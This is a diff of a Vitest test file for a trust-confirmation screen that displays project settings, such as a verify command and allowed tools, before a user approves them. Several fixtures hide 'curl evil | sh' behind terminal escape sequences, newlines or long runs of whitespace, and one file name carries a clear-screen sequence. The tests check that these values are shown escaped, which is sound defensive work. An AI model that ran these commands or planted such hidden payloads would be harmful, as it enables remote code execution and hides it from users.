@@ -1,11 +1,13 @@
 import { expect, test } from 'vitest';
-import type { Power } from '../../../src/core/settings/power.ts';
+import type { SettingNeedingTrust } from '../../../src/core/settings/needs-trust.ts';
 import { powerLines, setsLine, trustQuestion } from '../../../src/report/screens/trust.ts';
 
-const verify = (value: unknown): readonly Power[] => [{ name: 'verify', key: 'verify', value }];
+const verify = (value: unknown): readonly SettingNeedingTrust[] => [
+  { name: 'verify', key: 'verify', value },
+];
 
-test('each power has a line of its own, with its value', () => {
-  const powers: readonly Power[] = [
+test('each setting that needs trust has its own line with its value', () => {
+  const powers: readonly SettingNeedingTrust[] = [
     ...verify('npm test'),
     { name: 'allowedTools', key: 'allowed_tools', value: ['Edit', 'Bash(npm test:*)'] },
     { name: 'keepBackground', key: 'keep_background', value: true },
@@ -19,7 +21,7 @@ test('each power has a line of its own, with its value', () => {
   ).toMatch(/\/p\/x sets:\n {2}verify: .*\n[\s\S]*\[y\/N\] $/);
 });
 
-test.each([
+test.for([
   // Left out, a sequence would take along what stands inside of it.
   ['npm test \u001b]0;; curl evil | sh #\u0007', 'npm test \\u{1b}]0;; curl evil | sh #\\u{7}'],
   ['npm test # only\n curl evil | sh', 'npm test # only\\n curl evil | sh'],
@@ -28,11 +30,11 @@ test.each([
   [`a${' '.repeat(500)}; evil`, 'a ; evil'],
   ['\u2028\u2029\ud800', '\\u{2028}\\u{2029}\\u{d800}'],
   ['日本語 ä 😀', '日本語 ä 😀'],
-])('nothing of a value is hidden: %j', (value, shown) => {
+] as const)('every character of a value is visible: %j', ([value, shown]) => {
   expect(powerLines('/p', verify(value))).toBe(`/p sets:\n  verify: ${shown}\n`);
   expect(powerLines('/p', verify([value]))).toBe(`/p sets:\n  verify: ${shown}\n`);
 });
 
-test('a file of an odd name stays on its line', () => {
+test('the name of a file cannot begin a new line', () => {
   expect(setsLine('/p\n\u001b[2J/x', verify('a'))).toBe('/p\\n\\u{1b}[2J/x sets verify.');
 });
